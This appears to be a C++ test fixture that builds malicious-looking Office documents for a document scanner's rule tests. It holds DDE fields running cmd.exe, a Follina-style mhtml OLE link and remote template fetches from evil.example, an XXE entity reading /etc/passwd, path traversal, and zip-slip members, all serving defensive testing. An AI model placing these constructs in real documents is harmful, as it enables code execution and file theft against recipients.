#include "tests/support/ooxml_samples.h"

#include <string>

#include "tests/support/ooxml_builder.h"
#include "tests/support/zip_builder.h"

namespace mugai::testing {
namespace {

using B = OoxmlBuilder;
using std::string;

const string kDoc = "word/document.xml";
const string kSheet = "xl/worksheets/sheet1.xml";
const string kBook = "xl/workbook.xml";
const string kSlide = "ppt/slides/slide1.xml";

string p(const string& runs) {
  return "<w:p>" + runs + "</w:p>";
}
string text(const string& t) {
  return "<w:r><w:t>" + t + "</w:t></w:r>";
}
string mark(const string& type) {
  return "<w:r><w:fldChar w:fldCharType=\"" + type + "\"/></w:r>";
}
string instr(const string& t) {
  return "<w:r><w:instrText xml:space=\"preserve\">" + t + "</w:instrText></w:r>";
}
string field(const string& instruction, const string& result) {
  return mark("begin") + instr(instruction) + mark("separate") + text(result) + mark("end");
}
Buffer word(const string& body) {
  return B::docx(p(body)).build();
}
Buffer with_field(const string& instruction) {
  return word(text("before") + field(instruction, "RESULT") + text("after"));
}
// A Word document whose main part names one relationship.
B word_with(const string& body, const char* type, const char* target, bool external) {
  B b = B::docx(p(body));
  b.relate(kDoc, "rId9", type, target, external);
  return b;
}
Buffer settings(const string& inner, const char* type = nullptr, const char* target = "http://evil.example/x") {
  B b = B::docx(p(text("x")));
  b.part("word/settings.xml", "V:wordprocessingml.settings+xml",
         "<w:settings" + string(kWordNamespaces) + ">" + inner + "</w:settings>");
  b.relate(kDoc, "rId8", "O:settings", "settings.xml");
  if (type != nullptr) b.relate("word/settings.xml", "rId1", type, target, true);
  return b.build();
}
Buffer cell(const string& formula) {
  return B::xlsx("<sheetData><row r=\"1\"><c r=\"A1\"><f>" + formula + "</f><v>42</v></c></row></sheetData>").build();
}
// A package with one dropped part.
Buffer extra(B b, const string& source, const char* type, const string& name, const char* content_type,
             const string& bytes = "PAYLOAD") {
  b.part(name, content_type, bytes);
  b.relate(source, "rId77", type, "/" + name);
  return b.build();
}
Buffer doc_extra(const char* type, const string& name, const char* content_type) {
  return extra(B::docx(p(text("x"))), kDoc, type, name, content_type);
}
Buffer book_extra(const char* type, const string& name, const char* content_type, const string& bytes = "PAYLOAD") {
  return extra(B::xlsx("<sheetData/>"), kBook, type, name, content_type, bytes);
}
string picture(const string& blip) {
  return "<w:r><w:drawing><wp:inline><a:graphic><a:graphicData "
         "uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\">"
         "<pic:pic><pic:blipFill>" +
         blip + "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>";
}
Buffer image(const string& name, const char* content_type, const string& bytes) {
  B b = word_with(picture("<a:blip r:embed=\"rId9\"/>"), "O:image", ("media/" + name).c_str(), false);
  return b.part("word/media/" + name, content_type, bytes).build();
}
string shape(const string& inner) {
  return "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"t\">" + inner + "</p:cNvPr></p:nvSpPr></p:sp>";
}
Buffer slide_action(const string& action) {
  return B::pptx(shape("<a:hlinkClick r:id=\"\" action=\"" + action + "\"/>")).build();
}
Buffer book(const string& inner) {
  B b = B::xlsx("<sheetData/>");
  return b
      .replace(kBook, "<workbook" + string(kSheetNamespaces) +
                          "><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"rId1\"/></sheets>" + inner + "</workbook>")
      .build();
}

ZipMember member(const string& name, const string& data, std::uint16_t method) {
  ZipMember out;
  out.name = name;
  out.data = data;
  out.method = method;
  return out;
}
// The members of an honest document, for containers that lie about them.
ZipFile container() {
  ZipFile file;
  for (auto& [name, bytes] : unzip(B::docx(p(text("inside"))).build()))
    file.members.push_back(member(name, bytes, 8));
  return file;
}
Buffer built(const ZipFile& file) {
  const string bytes = build_zip(file);
  return {bytes.begin(), bytes.end()};
}
// One more member of the container.
Buffer with_member(ZipMember member) {
  ZipFile file = container();
  file.members.push_back(std::move(member));
  return built(file);
}

const std::vector<Sample>& table() {
  static const std::vector<Sample> samples = {
      // Word fields
      {"ooxml/field-dde", "a.docx", false, {"WML-002"}, {"DDEAUTO", "cmd"}, {"RESULT", "before", "after"}, [] { return with_field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "); }},
      {"ooxml/field-dde-split", "a.docx", false, {"WML-002"}, {"AUTO", "cmd.exe"}, {"RESULT"}, [] { return word(mark("begin") + instr("D") + instr("DEAU") + "<w:r><w:rPr><w:b/></w:rPr><w:instrText>TO cmd.exe x</w:instrText></w:r>" + mark("separate") + text("RESULT") + mark("end")); }},
      {"ooxml/field-dde-nested", "a.docx", false, {"WML-019"}, {"QUOTE", "68 68 69", "cmd.exe"}, {"RESULT"}, [] { return word(mark("begin") + field("QUOTE 68 68 69", "DDE") + instr(" cmd.exe ") + mark("separate") + text("RESULT") + mark("end")); }},
      {"ooxml/field-simple-dde", "a.docx", false, {"WML-002"}, {"fldSimple", "cmd.exe"}, {"RESULT"}, [] { return word("<w:fldSimple w:instr=\"DDE cmd.exe a\">" + text("RESULT") + "</w:fldSimple>"); }},
      {"ooxml/field-link", "a.docx", false, {"WML-003"}, {"LINK"}, {"RESULT"}, [] { return with_field("LINK Excel.Sheet.8 \"\\\\\\\\evil\\\\x.xls\" \\a"); }},
      {"ooxml/field-includetext", "a.docx", false, {"WML-004"}, {"INCLUDE"}, {"RESULT"}, [] { return with_field("INCLUDETEXT \"http://evil.example/a\""); }},
      {"ooxml/field-includepicture", "a.docx", false, {"WML-005"}, {"INCLUDE"}, {"RESULT"}, [] { return with_field("INCLUDEPICTURE \"http://evil.example/a.png\" \\d"); }},
      {"ooxml/field-database", "a.docx", false, {"WML-006"}, {"DATABASE"}, {"RESULT"}, [] { return with_field("DATABASE \\d \"c:\\\\a.mdb\" \\s \"SELECT\""); }},
      {"ooxml/field-rd", "a.docx", false, {"WML-007"}, {"secret.doc"}, {}, [] { return with_field("RD \\f secret.doc"); }},
      {"ooxml/field-macrobutton", "a.docx", false, {"WML-008"}, {"MACROBUTTON"}, {}, [] { return with_field("MACROBUTTON Evil click"); }},
      {"ooxml/field-hyperlink-bad", "a.docx", false, {"WML-009"}, {"HYPERLINK", "evil"}, {"RESULT"}, [] { return with_field("HYPERLINK \"file:///\\\\\\\\evil\\\\a.rtf!x\""); }},
      {"ooxml/field-hyperlink-good", "a.docx", false, {}, {}, {"HYPERLINK", "https://example.jp/", "RESULT"}, [] { return with_field(" HYPERLINK \"https://example.jp/\" \\o \"tip\" "); }},
      {"ooxml/field-page", "a.docx", false, {}, {}, {"NUMPAGES", "RESULT"}, [] { return with_field(" NUMPAGES \\* MERGEFORMAT "); }},
      {"ooxml/field-embed", "a.docx", false, {"WML-010"}, {"EMBED"}, {"RESULT"}, [] { return with_field("EMBED Equation.3"); }},
      {"ooxml/field-addin", "a.docx", false, {"WML-011"}, {"ADDIN"}, {"RESULT"}, [] { return with_field("ADDIN ZOTERO_ITEM {}"); }},
      {"ooxml/field-print", "a.docx", false, {"WML-012"}, {"PRINT"}, {}, [] { return with_field("PRINT \"27\""); }},
      {"ooxml/field-autotext", "a.docx", false, {"WML-013"}, {"AUTOTEXT"}, {}, [] { return with_field("AUTOTEXT x"); }},
      {"ooxml/field-ask", "a.docx", false, {"WML-014"}, {"ASK"}, {}, [] { return with_field("ASK name \"who\""); }},
      {"ooxml/field-formula-nested", "a.docx", false, {"WML-015"}, {"PAGE"}, {}, [] { return word(mark("begin") + instr("= 1 + ") + field("PAGE", "1") + mark("separate") + text("RESULT") + mark("end")); }},
      {"ooxml/field-filename", "a.docx", false, {"WML-016"}, {"FILENAME"}, {}, [] { return with_field("FILENAME \\p"); }},
      {"ooxml/field-docproperty", "a.docx", false, {"WML-017"}, {"DOCPROPERTY"}, {}, [] { return with_field("DOCPROPERTY x"); }},
      {"ooxml/field-barcode", "a.docx", false, {"WML-018"}, {"BARCODE"}, {}, [] { return with_field("DISPLAYBARCODE \"http://evil\" QR"); }},
      {"ooxml/field-unbalanced", "a.docx", false, {"WML-019"}, {"fldChar", "cmd"}, {"visible"}, [] { return word(mark("separate") + text("visible") + mark("end") + instr("DDE cmd") + mark("begin")); }},
      {"ooxml/field-dirty", "a.docx", false, {"WML-020"}, {"dirty"}, {"PAGE"}, [] { return word("<w:fldSimple w:instr=\"PAGE\" w:dirty=\"true\">" + text("1") + "</w:fldSimple>"); }},
      // Word parts and elements
      {"ooxml/attached-template", "a.docx", false, {"WML-001"}, {"attachedTemplate", "evil.example"}, {}, [] { return settings("<w:attachedTemplate r:id=\"rId1\"/>", "O:attachedTemplate"); }},
      {"ooxml/update-fields", "a.docx", false, {"WML-020"}, {"updateFields"}, {}, [] { return settings("<w:updateFields w:val=\"true\"/>"); }},
      {"ooxml/alt-chunk", "a.docx", false, {"WML-021"}, {"altChunk", "rtf1"}, {"x"}, [] { B b = word_with(text("x"), "O:aFChunk", "afchunk.rtf", false); b.replace(kDoc, "<w:document" + string(kWordNamespaces) + "><w:body><w:altChunk r:id=\"rId9\"/>" + p(text("x")) + "</w:body></w:document>"); return b.part("word/afchunk.rtf", "application/rtf", "{\\rtf1}").build(); }},
      {"ooxml/sub-document", "a.docx", false, {"WML-022"}, {"subDoc"}, {}, [] { return word_with("<w:subDoc r:id=\"rId9\"/>", "O:subDocument", "file:///c:/x.doc", true).build(); }},
      {"ooxml/frameset", "a.docx", false, {"WML-023"}, {"frameset", "evil"}, {}, [] { B b = B::docx(p(text("x"))); b.part("word/webSettings.xml", "V:wordprocessingml.webSettings+xml", "<w:webSettings" + string(kWordNamespaces) + "><w:frameset><w:frame><w:sourceFileName r:id=\"rId1\"/></w:frame></w:frameset></w:webSettings>"); b.relate(kDoc, "rId5", "O:webSettings", "webSettings.xml"); b.relate("word/webSettings.xml", "rId1", "O:frame", "\\\\evil\\x", true); return b.build(); }},
      {"ooxml/mail-merge", "a.docx", false, {"WML-025"}, {"mailMerge", "SELECT"}, {}, [] { return settings("<w:mailMerge><w:query w:val=\"SELECT\"/><w:dataSource r:id=\"rId1\"/></w:mailMerge>", "O:mailMergeSource"); }},
      {"ooxml/save-through-xslt", "a.docx", false, {"WML-026"}, {"saveThroughXslt"}, {}, [] { return settings("<w:saveThroughXslt r:id=\"rId1\"/>", "O:transform"); }},
      {"ooxml/attached-schema", "a.docx", false, {"WML-027"}, {"attachedSchema"}, {}, [] { return settings("<w:attachedSchema w:val=\"urn:x\"/>"); }},
      {"ooxml/smart-tag", "a.docx", false, {"WML-028"}, {"smartTag"}, {"inside"}, [] { return word("<w:smartTag w:uri=\"u\" w:element=\"e\">" + text("inside") + "</w:smartTag>"); }},
      {"ooxml/inline-custom-xml", "a.docx", false, {"WML-029"}, {"w:customXml"}, {"inside"}, [] { return word("<w:customXml w:element=\"e\">" + text("inside") + "</w:customXml>"); }},
      {"ooxml/data-binding", "a.docx", false, {"WML-030"}, {"dataBinding"}, {"inside"}, [] { return word("<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"/x\" w:storeItemID=\"i\"/></w:sdtPr><w:sdtContent>" + text("inside") + "</w:sdtContent></w:sdt>"); }},
      {"ooxml/object-movie", "a.docx", false, {"WML-031"}, {"w:movie"}, {}, [] { return word_with("<w:r><w:object><w:movie r:id=\"rId9\"/></w:object></w:r>", "O:video", "http://evil.example/v", true).build(); }},
      {"ooxml/form-macro", "a.docx", false, {"WML-032"}, {"entryMacro", "Evil"}, {}, [] { return word("<w:r><w:fldChar w:fldCharType=\"begin\"><w:ffData><w:entryMacro w:val=\"Evil\"/></w:ffData></w:fldChar></w:r>" + instr("FORMTEXT") + mark("separate") + text("x") + mark("end")); }},
      {"ooxml/web-video", "a.docx", false, {"WML-033"}, {"iframe"}, {}, [] { return word("<w:r><w:drawing><wp:inline><wp:docPr id=\"1\" name=\"v\"><a:extLst><a:ext uri=\"{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}\"><wp15:webVideoPr xmlns:wp15=\"http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing\" embeddedHtml=\"&lt;iframe&gt;\"/></a:ext></a:extLst></wp:docPr></wp:inline></w:drawing></w:r>"); }},
      {"ooxml/hyperlink-frame", "a.docx", false, {"WML-034"}, {"tgtFrame"}, {"example.jp", "click"}, [] { return word_with("<w:hyperlink r:id=\"rId9\" w:tgtFrame=\"_top\">" + text("click") + "</w:hyperlink>", "O:hyperlink", "https://example.jp/", true).build(); }},
      {"ooxml/glossary", "a.docx", false, {"WML-041"}, {"glossary"}, {}, [] { return doc_extra("O:glossaryDocument", "word/glossary/document.xml", "V:wordprocessingml.document.glossary+xml"); }},
      {"ooxml/doc-vars", "a.docx", false, {"WML-042"}, {"docVar", "payload"}, {}, [] { return settings("<w:docVars><w:docVar w:name=\"a\" w:val=\"payload\"/></w:docVars>"); }},
      {"ooxml/styles-with-effects", "a.docx", false, {"WML-046"}, {"PAYLOAD"}, {}, [] { return doc_extra("M:2007/relationships/stylesWithEffects", "word/stylesWithEffects.xml", "application/vnd.ms-word.stylesWithEffects+xml"); }},
      {"ooxml/field-data", "a.docx", false, {"WML-047"}, {"fldData", "QUJD"}, {}, [] { return word("<w:fldSimple w:instr=\"PAGE\"><w:fldData>QUJD</w:fldData>" + text("1") + "</w:fldSimple>"); }},
      // Package
      {"ooxml/two-mains", "a.docx", true, {"OOXML-008"}, {}, {}, [] { B b = B::docx(p(text("x"))); return b.relate("", "rId2", "O:officeDocument", "word/document.xml").build(); }},
      {"ooxml/strict", "a.docx", false, {"OOXML-009"}, {"purl.oclc.org"}, {"inside"}, [] { B b; b.main = kDoc; b.part(kDoc, "V:wordprocessingml.document.main+xml", "<w:document xmlns:w=\"http://purl.oclc.org/ooxml/wordprocessingml/main\" w:conformance=\"strict\"><w:body>" + p(text("inside")) + "</w:body></w:document>"); return b.relate("", "rId1", "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument", "word/document.xml").build(); }},
      {"ooxml/external-unknown", "a.docx", false, {"OOXML-010"}, {"evil.example"}, {}, [] { return word_with(text("x"), "O:somethingNew", "http://evil.example/", true).build(); }},
      {"ooxml/duplicate-id", "a.docx", true, {"OOXML-011"}, {}, {}, [] { B b = word_with(text("x"), "O:hyperlink", "http://a.example/", true); return b.relate(kDoc, "rId9", "O:hyperlink", "http://b.example/", true).build(); }},
      {"ooxml/target-outside", "a.docx", false, {"OOXML-012"}, {"etc/passwd", "v:imagedata"}, {}, [] { return word_with("<w:r><w:pict><v:shape><v:imagedata r:id=\"rId9\"/></v:shape></w:pict></w:r>", "O:image", "../../../etc/passwd", false).build(); }},
      {"ooxml/follina", "a.docx", false, {"OOXML-013", "OOXML-046"}, {"mhtml", "OLEObject"}, {}, [] { return word_with("<w:r><w:object><v:shape id=\"s\"/><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" r:id=\"rId9\" UpdateMode=\"OnCall\"/></w:object></w:r>", "O:oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", true).build(); }},
      {"ooxml/cycle", "a.docx", false, {"OOXML-014"}, {}, {"inside"}, [] { B b = B::docx(p(text("x"))); b.part("word/header1.xml", "V:wordprocessingml.header+xml", "<w:hdr" + string(kWordNamespaces) + ">" + p(text("inside")) + "</w:hdr>"); b.relate(kDoc, "rId5", "O:header", "header1.xml"); return b.relate("word/header1.xml", "rId1", "O:header", "header1.xml").build(); }},
      {"ooxml/dtd", "a.docx", true, {"OOXML-015"}, {}, {}, [] { B b = B::docx(""); return b.replace(kDoc, "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document" + string(kWordNamespaces) + "/>").build(); }},
      {"ooxml/utf7", "a.docx", true, {"OOXML-016"}, {}, {}, [] { B b = B::docx(""); return b.replace(kDoc, "<?xml version=\"1.0\" encoding=\"UTF-7\"?><w:document" + string(kWordNamespaces) + "/>").build(); }},
      {"ooxml/illegal-character", "a.docx", true, {"OOXML-017"}, {}, {}, [] { return word(text("a\x01")); }},
      {"ooxml/processing-instruction", "a.docx", false, {"OOXML-018"}, {"xml-stylesheet"}, {}, [] { return word("<?xml-stylesheet href=\"http://evil\"?>" + text("x")); }},
      {"ooxml/comment-cdata", "a.docx", false, {"OOXML-019"}, {"hidden", "CDATA"}, {"inside"}, [] { return word("<!-- hidden -->" + text("<![CDATA[inside]]>")); }},
      {"ooxml/prefixes", "a.docx", false, {"WML-002"}, {"q:", "cmd.exe"}, {"RESULT"}, [] { return word("<q:fldSimple xmlns:q=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" q:instr=\"DDE cmd.exe\">" + text("RESULT") + "</q:fldSimple>"); }},
      {"ooxml/alternate-content", "a.docx", false, {"OOXML-021"}, {"smuggled", "AlternateContent"}, {"shown"}, [] { return word("<w:r><mc:AlternateContent><mc:Choice xmlns:q=\"urn:unknown\" Requires=\"q\"><w:t>smuggled</w:t></mc:Choice><mc:Fallback><w:t>shown</w:t></mc:Fallback></mc:AlternateContent></w:r>"); }},
      {"ooxml/alternate-content-both", "a.docx", false, {"WML-002"}, {"cmd.exe"}, {"AlternateContent", "one", "two"}, [] { return word("<mc:AlternateContent><mc:Choice Requires=\"wps\"><w:fldSimple w:instr=\"DDE cmd.exe\">" + text("one") + "</w:fldSimple></mc:Choice><mc:Fallback><w:fldSimple w:instr=\"DDE cmd.exe\">" + text("two") + "</w:fldSimple></mc:Fallback></mc:AlternateContent>"); }},
      {"ooxml/unknown-extension", "a.xlsx", false, {"OOXML-022"}, {"extLst", "smuggled"}, {}, [] { return B::xlsx("<sheetData/><extLst><ext uri=\"{0}\"><x>smuggled</x></ext></extLst>").build(); }},
      {"ooxml/unknown-namespace", "a.docx", false, {"OOXML-023"}, {"smuggled"}, {"x"}, [] { return word("<q:a xmlns:q=\"urn:q\">smuggled</q:a><w:r q:b=\"smuggled\" xmlns:q=\"urn:q\"><w:t>x</w:t></w:r>"); }},
      {"ooxml/orphan", "a.docx", false, {"OOXML-024"}, {"PAYLOAD", "trash"}, {}, [] { B b = B::docx(p(text("x"))); return b.part("trash/0.dat", "application/octet-stream", "PAYLOAD").build(); }},
      {"ooxml/deep", "a.docx", true, {"OOXML-035"}, {}, {}, [] { string deep; for (int i = 0; i < 300; ++i) deep += "<w:sdt>"; return word(deep); }},
      {"ooxml/wrong-content-type", "a.docx", false, {"OOXML-005"}, {"evil.jpg"}, {}, [] { B b = word_with(picture("<a:blip r:embed=\"rId9\"/>"), "O:image", "media/evil.jpg", false); return b.part("word/media/evil.jpg", "application/vnd.ms-office.vbaProject", "PAYLOAD").build(); }},
      {"ooxml/zip-duplicate", "a.docx", true, {"OOXML-001"}, {}, {}, [] { return with_member(member("word/document.xml", "x", 0)); }},
      {"ooxml/zip-duplicate-case", "a.docx", true, {"OOXML-002"}, {}, {}, [] { return with_member(member("Word/Document.xml", "x", 0)); }},
      {"ooxml/zip-name", "a.docx", true, {"OOXML-003"}, {}, {}, [] { return with_member(member("word/../../x.xml", "x", 0)); }},
      {"ooxml/zip-piece", "a.docx", true, {"OOXML-004"}, {}, {}, [] { return with_member(member("word/a.xml/[0].piece", "x", 0)); }},
      {"ooxml/zip-comment", "a.docx", false, {"OOXML-026"}, {"hidden"}, {"inside"}, [] { ZipFile f = container(); f.comment = "hidden"; return built(f); }},
      {"ooxml/zip-header-lies", "a.docx", true, {"OOXML-027"}, {}, {}, [] { ZipFile f = container(); f.members[1].local_name = "_rels/.relx"; return built(f); }},
      {"ooxml/zip-encrypted-flag", "a.docx", true, {"OOXML-029"}, {}, {}, [] { ZipFile f = container(); f.members[1].flags = 1; return built(f); }},
      {"ooxml/zip-method", "a.docx", true, {"OOXML-030"}, {}, {}, [] { return with_member(member("word/a.xml", "x", 12)); }},
      {"ooxml/zip-crc", "a.docx", true, {"OOXML-033"}, {}, {}, [] { ZipFile f = container(); f.members[2].crc = 1; return built(f); }},
      // Code and controls
      {"ooxml/macros", "a.docm", false, {"OOXML-007", "OOXML-036", "OOXML-037", "OOXML-038"}, {"vba", "PAYLOAD", "macroEnabled"}, {"x"}, [] { B b = B::docx(p(text("x"))); b.set_main_type("application/vnd.ms-word.document.macroEnabled.main+xml"); b.part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "PAYLOAD"); b.part("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", "<x/>"); b.part("word/vbaProjectSignature.bin", "application/vnd.ms-office.vbaProjectSignature", "PAYLOAD"); b.relate(kDoc, "rId3", "M:2006/relationships/vbaProject", "vbaProject.bin"); b.relate("word/vbaProject.bin", "rId1", "M:2006/relationships/wordVbaData", "vbaData.xml"); return b.relate("word/vbaProject.bin", "rId2", "M:2006/relationships/vbaProjectSignature", "vbaProjectSignature.bin").build(); }},
      {"ooxml/macros-renamed", "a.xlsm", false, {"OOXML-036"}, {"PAYLOAD"}, {}, [] { B b = B::xlsx("<sheetData/>"); b.set_main_type("application/vnd.ms-excel.sheet.macroEnabled.main+xml"); return extra(b, kBook, "M:2006/relationships/vbaProject", "xl/harmless.bin", "application/vnd.ms-office.vbaProject"); }},
      {"ooxml/toolbars", "a.docx", false, {"OOXML-039"}, {"PAYLOAD"}, {}, [] { return doc_extra("M:2006/relationships/attachedToolbars", "word/attachedToolbars.bin", "application/vnd.ms-word.attachedToolbars"); }},
      {"ooxml/key-map", "a.docx", false, {"OOXML-040"}, {"PAYLOAD"}, {}, [] { return doc_extra("M:2006/relationships/keyMapCustomizations", "word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml"); }},
      {"ooxml/custom-ui", "a.docx", false, {"OOXML-041"}, {"PAYLOAD", "customUI"}, {}, [] { return extra(B::docx(p(text("x"))), "", "M:2007/relationships/ui/extensibility", "customUI/customUI14.xml", "application/xml"); }},
      {"ooxml/user-customization", "a.docx", false, {"OOXML-042"}, {"PAYLOAD"}, {}, [] { return extra(B::docx(p(text("x"))), "", "M:2006/relationships/ui/userCustomization", "userCustomization/customUI.xml", "application/xml"); }},
      {"ooxml/web-extension", "a.docx", false, {"OOXML-043"}, {"PAYLOAD"}, {}, [] { return extra(B::docx(p(text("x"))), "", "M:2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml"); }},
      {"ooxml/activex", "a.docx", false, {"OOXML-044"}, {"PAYLOAD", "w:control"}, {}, [] { B b = word_with("<w:r><w:object><v:shape id=\"s\"/><w:control r:id=\"rId9\" w:name=\"c\"/></w:object></w:r>", "O:control", "activeX/activeX1.xml", false); return b.part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "PAYLOAD").build(); }},
      {"ooxml/ole-object", "a.docx", false, {"OOXML-045"}, {"PAYLOAD", "OLEObject"}, {"v:shape"}, [] { B b = word_with("<w:r><w:object><v:shape id=\"s\"/><o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rId9\"/></w:object></w:r>", "O:oleObject", "embeddings/oleObject1.bin", false); return b.part("word/embeddings/oleObject1.bin", "V:oleObject", "PAYLOAD").build(); }},
      {"ooxml/legacy-object", "a.docx", false, {"OOXML-049"}, {"PAYLOAD"}, {}, [] { return doc_extra("M:2006/relationships/oleObject", "word/o.bin", "application/octet-stream"); }},
      {"ooxml/package-external", "a.docx", false, {"OOXML-048"}, {"evil.example"}, {}, [] { return word_with(text("x"), "O:package", "http://evil.example/a.xlsx", true).build(); }},
      {"ooxml/package-macro", "a.docx", false, {"OOXML-047", "OOXML-036"}, {"PAYLOAD", "xlsm"}, {"OLEObject"}, [] { B inner = B::xlsx("<sheetData/>"); inner.set_main_type("application/vnd.ms-excel.sheet.macroEnabled.main+xml"); const Buffer x = extra(inner, kBook, "M:2006/relationships/vbaProject", "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"); B b = word_with("<w:r><w:object><v:shape id=\"s\"/><o:OLEObject Type=\"Embed\" ProgID=\"Excel.Sheet.12\" r:id=\"rId9\"/></w:object></w:r>", "O:package", "embeddings/Sheet1.xlsm", false); return b.part("word/embeddings/Sheet1.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", string(x.begin(), x.end())).build(); }},
      {"ooxml/package-not-office", "a.docx", false, {"OOXML-047"}, {"PAYLOAD"}, {}, [] { return doc_extra("O:package", "word/embeddings/a.bin", "application/octet-stream"); }},
      {"ooxml/addin", "a.xlsx", true, {"EXT-004"}, {}, {}, [] { B b = B::xlsx("<sheetData/>"); return b.set_main_type("application/vnd.ms-excel.addin.macroEnabled.main+xml").build(); }},
      // Shared parts
      {"ooxml/data-mashup", "a.xlsx", false, {"OOXML-051"}, {"DataMashup"}, {}, [] { return book_extra("O:customXml", "customXml/item1.xml", "application/xml", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">AAAA</DataMashup>"); }},
      {"ooxml/custom-xsn", "a.docx", false, {"OOXML-052"}, {"customXsn"}, {}, [] { return extra(B::docx(p(text("x"))), kDoc, "O:customXml", "customXml/item1.xml", "application/xml", "<customXsn xmlns=\"http://schemas.microsoft.com/office/2006/metadata/customXsn\"/>"); }},
      {"ooxml/custom-xml", "a.docx", false, {"OOXML-053"}, {"payload"}, {}, [] { return extra(B::docx(p(text("x"))), kDoc, "O:customXml", "customXml/item1.xml", "application/xml", "<root>payload</root>"); }},
      {"ooxml/properties", "a.docx", false, {"OOXML-054"}, {"HyperlinkBase", "evil"}, {"Application"}, [] { return extra(B::docx(p(text("x"))), "", "O:extended-properties", "docProps/app.xml", "V:extended-properties+xml", "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><Application>Word</Application><Company>evil</Company><HyperlinkBase>http://evil.example/</HyperlinkBase></Properties>"); }},
      {"ooxml/custom-properties", "a.docx", false, {"OOXML-055"}, {"custom.xml"}, {}, [] { return extra(B::docx(p(text("x"))), "", "O:custom-properties", "docProps/custom.xml", "V:custom-properties+xml", "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\"/>"); }},
      {"ooxml/label-info", "a.docx", false, {"OOXML-056"}, {"PAYLOAD"}, {}, [] { return extra(B::docx(p(text("x"))), "", "M:2020/02/relationships/classificationlabels", "docMetadata/LabelInfo.xml", "application/vnd.ms-office.classificationlabels+xml"); }},
      {"ooxml/thumbnail", "a.docx", false, {"OOXML-057"}, {"thumbnail"}, {}, [] { return extra(B::docx(p(text("x"))), "", "P:metadata/thumbnail", "docProps/thumbnail.emf", "image/x-emf"); }},
      {"ooxml/signature", "a.docx", false, {"OOXML-058"}, {"PAYLOAD", "_xmlsignatures"}, {}, [] { return extra(B::docx(p(text("x"))), "", "P:digital-signature/origin", "_xmlsignatures/origin.sigs", "application/vnd.openxmlformats-package.digital-signature-origin"); }},
      {"ooxml/printer-settings", "a.xlsx", false, {"OOXML-059"}, {"PAYLOAD", "rId77"}, {"pageSetup"}, [] { B b = B::xlsx("<sheetData/><pageSetup orientation=\"portrait\" r:id=\"rId77\"/>"); return extra(b, kSheet, "O:printerSettings", "xl/printerSettings/printerSettings1.bin", "V:spreadsheetml.printerSettings"); }},
      {"ooxml/fonts", "a.docx", false, {"OOXML-060"}, {"PAYLOAD", "embedRegular"}, {"Foo"}, [] { B b = B::docx(p(text("x"))); b.part("word/fontTable.xml", "V:wordprocessingml.fontTable+xml", "<w:fonts" + string(kWordNamespaces) + "><w:font w:name=\"Foo\"><w:embedRegular r:id=\"rId77\"/></w:font></w:fonts>"); b.relate(kDoc, "rId4", "O:fontTable", "fontTable.xml"); return extra(b, "word/fontTable.xml", "O:font", "word/fonts/font1.odttf", "V:obfuscatedFont"); }},
      {"ooxml/media", "a.pptx", false, {"OOXML-061", "PML-012"}, {"PAYLOAD", "videoFile"}, {}, [] { B b = B::pptx("<p:pic><p:nvPicPr><p:cNvPr id=\"3\" name=\"v\"/><p:nvPr><a:videoFile r:link=\"rId77\"/></p:nvPr></p:nvPicPr></p:pic>"); return extra(b, kSlide, "O:video", "ppt/media/media1.mp4", "video/mp4"); }},
      {"ooxml/model3d", "a.pptx", false, {"OOXML-062"}, {"PAYLOAD", "am3d"}, {}, [] { B b = B::pptx("<mc:AlternateContent><mc:Choice xmlns:am3d=\"http://schemas.microsoft.com/office/drawing/2017/model3d\" Requires=\"am3d\"><am3d:model3d/></mc:Choice><mc:Fallback/></mc:AlternateContent>"); return extra(b, kSlide, "M:2017/06/relationships/model3d", "ppt/media/model.glb", "model/gltf-binary"); }},
      {"ooxml/picture-emf", "a.docx", false, {"OOXML-063", "IMG-016"}, {"PAYLOAD", ".emf"}, {"image1.png"}, [] { return image("image1.emf", "image/x-emf", "PAYLOAD"); }},
      {"ooxml/picture-wmf", "a.docx", false, {"IMG-017"}, {"PAYLOAD"}, {}, [] { return image("image1.wmf", "image/x-wmf", "PAYLOAD"); }},
      {"ooxml/picture-tiff", "a.docx", false, {"IMG-011"}, {"PAYLOAD"}, {}, [] { return image("image1.tiff", "image/tiff", "PAYLOAD"); }},
      {"ooxml/picture-png", "a.docx", false, {"IMG-008"}, {"Author"}, {"IHDR"}, [] { return image("image1.png", "image/png", small_png()); }},
      {"ooxml/picture-jpeg", "a.docx", false, {"IMG-002", "IMG-003"}, {"Exif", "<?ph", "tail after"}, {"JFIF"}, [] { return image("image1.jpg", "image/jpeg", small_jpeg()); }},
      {"ooxml/picture-gif", "a.docx", false, {"IMG-002", "IMG-009"}, {"hello"}, {"NETSCAPE"}, [] { return image("image1.gif", "image/gif", small_gif()); }},
      {"ooxml/picture-mismatch", "a.docx", false, {"IMG-022"}, {"image1.jpg"}, {"image1.png"}, [] { return image("image1.jpg", "image/jpeg", small_png()); }},
      {"ooxml/picture-external", "a.docx", false, {"DML-001", "DML-002"}, {"evil.example", "r:link"}, {"a:blip"}, [] { return word_with(picture("<a:blip r:link=\"rId9\"/>"), "O:image", "http://evil.example/beacon.png", true).build(); }},
